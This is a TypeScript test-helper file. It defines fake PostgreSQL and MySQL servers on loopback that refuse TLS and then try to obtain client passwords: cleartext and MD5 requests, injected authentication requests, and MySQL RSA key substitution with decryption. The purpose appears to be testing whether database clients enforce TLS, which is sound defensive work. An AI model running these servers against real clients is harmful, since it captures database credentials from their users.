/**
 * Fake database servers on loopback that try to take the password off a connection without TLS:
 * they answer "no TLS", then ask for the password in a form they can read (PostgreSQL cleartext or
 * MD5, MySQL's cleartext plugin, or a MySQL password encrypted to an RSA key the attacker sends).
 * Whatever they could recover (a decrypted RSA answer included) is kept in `received`, so that
 * `credentialsIn` finds it; MD5 answers are kept as received and checked with {@link md5Answer}.
 */
import { constants, createHash, generateKeyPairSync, privateDecrypt } from 'node:crypto';
import {
  type AttackerDatabase,
  greeting,
  int32,
  listen,
  mysqlPacket,
  pgMessage,
  Reader,
  readPostgresStartup,
} from './attacker-databases.ts';

/**
 * What the fake PostgreSQL server asks for once the client goes on without TLS;
 * `injected-cleartext` sends that request in the same packet as its "no TLS" answer, before the
 * client has said who it is, and `injected-after-yes` after a "yes, TLS" answer, before any TLS
 * (the kind of injection libpq's CVE-2021-23222 was about).
 */
export type PostgresPasswordRequest = 'cleartext' | 'md5' | 'injected-cleartext' | 'injected-after-yes';

/** The salt the fake PostgreSQL server sends with its MD5 request. */
export const MD5_SALT = Buffer.from([0x01, 0x02, 0x03, 0x04]);

/**
 * The answer a client gives to an MD5 request: `md5` + md5(md5(password + user) + salt). An
 * attacker holding it can log in as the user wherever that hash is accepted, or crack it.
 *
 * @example
 * ```ts
 * received.includes(md5Answer(password, 'app'));
 * ```
 */
export function md5Answer(password: string, user: string): string {
  const inner = createHash('md5')
    .update(password + user)
    .digest('hex');
  return `md5${createHash('md5')
    .update(Buffer.concat([Buffer.from(inner), MD5_SALT]))
    .digest('hex')}`;
}

/**
 * A PostgreSQL server that answers every SSLRequest with "N", then asks for the password as
 * `request` and records the answer.
 *
 * @example
 * ```ts
 * const attacker = await startPlaintextPostgres('md5');
 * ```
 */
export function startPlaintextPostgres(request: PostgresPasswordRequest): Promise<AttackerDatabase> {
  const cleartextRequest = pgMessage('R', int32(3));
  return listen((socket, state) => {
    const reader = new Reader(socket);
    void (async () => {
      const user = await readPostgresStartup(reader, socket, () => {
        if (request === 'injected-cleartext') return Buffer.concat([Buffer.from('N'), cleartextRequest]);
        if (request === 'injected-after-yes') return Buffer.concat([Buffer.from('S'), cleartextRequest]);
        return 'N';
      });
      if (user === undefined) return;
      state.logins.push(user);
      socket.write(
        request !== 'md5' ? cleartextRequest : pgMessage('R', Buffer.concat([int32(5), MD5_SALT])),
      );
      // Whatever comes back is already in `received`; the attacker then hangs up.
      await reader.take(5);
      socket.end();
    })();
  });
}

/** How the fake MySQL server tries to get the password once the client goes on without TLS. */
export type MysqlPasswordRequest = 'no-tls' | 'cleartext-plugin' | 'caching-sha2-rsa' | 'sha256-rsa';

const SCRAMBLE = Buffer.from('0123456789abcdefghij', 'latin1');

/**
 * A MySQL server that offers no TLS and then, depending on `request`: nothing more (`no-tls`, to
 * see what a client sends before it notices), switches the login to the cleartext plugin, or to
 * `caching_sha2_password` / `sha256_password` and sends its own RSA key. An RSA answer is
 * decrypted with the attacker's private key and added to `received` in clear. `publicKeyPem` is
 * that key (a test pins it to play the real server).
 *
 * @example
 * ```ts
 * const attacker = await startPlaintextMysql('caching-sha2-rsa');
 * ```
 */
export async function startPlaintextMysql(
  request: MysqlPasswordRequest,
): Promise<AttackerDatabase & { readonly publicKeyPem: string; readonly scramble: Buffer }> {
  const keys = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const publicPem = keys.publicKey.export({ type: 'spki', format: 'pem' }).toString();
  const server = await listen((socket, state) => {
    const reader = new Reader(socket);
    const readPacket = async () => {
      const header = await reader.take(4);
      if (!header) return undefined;
      const payload = await reader.take(header.readUIntLE(0, 3));
      if (!payload) return undefined;
      return { sequence: header.readUInt8(3), payload };
    };
    const recover = (encrypted: Buffer) => {
      try {
        const mixed = privateDecrypt(
          { key: keys.privateKey, padding: constants.RSA_PKCS1_OAEP_PADDING },
          encrypted,
        );
        const plain = Buffer.from(
          mixed.map((byte, index) => byte ^ (SCRAMBLE[index % SCRAMBLE.length] ?? 0)),
        );
        state.received.push(plain);
      } catch {
        // Not encrypted to this key: nothing recovered.
      }
    };
    void (async () => {
      socket.write(mysqlPacket(0, greeting(SCRAMBLE)));
      const response = await readPacket();
      if (!response) return;
      const rest = response.payload.subarray(32);
      state.logins.push(rest.subarray(0, rest.indexOf(0)).toString('utf8'));
      if (request === 'no-tls') return void socket.end();
      let sequence = response.sequence + 1;
      const plugin =
        request === 'cleartext-plugin'
          ? 'mysql_clear_password'
          : request === 'caching-sha2-rsa'
            ? 'caching_sha2_password'
            : 'sha256_password';
      socket.write(
        mysqlPacket(
          sequence,
          Buffer.concat([
            Buffer.from([0xfe]),
            Buffer.from(`${plugin}\0`, 'latin1'),
            SCRAMBLE,
            Buffer.from([0]),
          ]),
        ),
      );
      let answer = await readPacket();
      if (!answer) return;
      sequence = answer.sequence + 1;
      if (request === 'caching-sha2-rsa') {
        // "Perform full authentication": the client must now send the whole password.
        socket.write(mysqlPacket(sequence, Buffer.from([0x01, 0x04])));
        answer = await readPacket();
        if (!answer) return;
        sequence = answer.sequence + 1;
      }
      if (request === 'caching-sha2-rsa' || request === 'sha256-rsa') {
        // The client asked for the server's key (or already encrypted to a pinned one).
        if (answer.payload.length > 1) recover(answer.payload);
        else {
          socket.write(mysqlPacket(sequence, Buffer.concat([Buffer.from([0x01]), Buffer.from(publicPem)])));
          const encrypted = await readPacket();
          if (encrypted) recover(encrypted.payload);
        }
      }
      socket.end();
    })();
  });
  return Object.assign(server, { publicKeyPem: publicPem, scramble: SCRAMBLE });
}
